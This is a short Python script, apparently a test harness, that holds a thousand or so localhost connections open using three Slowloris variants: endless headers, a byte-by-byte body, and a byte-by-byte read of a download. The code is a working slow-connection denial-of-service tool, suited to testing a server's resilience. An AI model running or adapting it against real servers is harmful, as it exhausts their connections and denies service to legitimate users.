"""Keeps a thousand connections busy with as little as it can: three kinds of Slowloris.

Run as `python dripping.py PORT NUMBER`. A third of the connections never ends its head, a third
never its body, and a third takes a large answer byte by byte. Whoever is cut off comes again. It
says `ready` when all have connected once, and ends with its standard input.
"""

import contextlib
import itertools
import os
import selectors
import socket
import sys
import time

#: Each connection does something once in so many seconds.
PERIOD = 1.0
TURNS = 50
HEAD = b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: "
BODY = b"POST /upload HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"
DOWNLOAD = b"GET /download HTTP/1.1\r\nHost: x\r\n\r\n"


class Dripper:
    """One connection that takes its time."""

    def __init__(self, port: int, kind: int) -> None:
        self.port = port
        self.reads = kind == 2
        self.first = (HEAD, BODY, DOWNLOAD)[kind]
        self.connect()

    def connect(self) -> None:
        self.socket = socket.socket()
        if self.reads:
            # Not less: the kernel would spend its time on squeezing segments into the buffer.
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16_384)
        self.socket.connect(("127.0.0.1", self.port))
        self.socket.sendall(self.first)
        self.socket.setblocking(False)

    def drip(self) -> None:
        """One byte, or another connection if the server has ended this one."""
        try:
            data = None
            with contextlib.suppress(BlockingIOError):
                data = self.socket.recv(1)
            if data == b"" or (data and not self.reads):
                raise ConnectionError
            if not self.reads:
                self.socket.send(b"x")
        except OSError:
            self.socket.close()
            self.connect()


def main(port: int, number: int) -> None:
    drippers = [Dripper(port, kind % 3) for kind in range(number)]
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    ended = selectors.DefaultSelector()
    ended.register(sys.stdin, selectors.EVENT_READ)
    for turn in itertools.count():
        began = time.monotonic()
        for dripper in drippers[turn % TURNS :: TURNS]:
            dripper.drip()
        if ended.select(max(0.0, began + PERIOD / TURNS - time.monotonic())):
            os._exit(0)


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]))
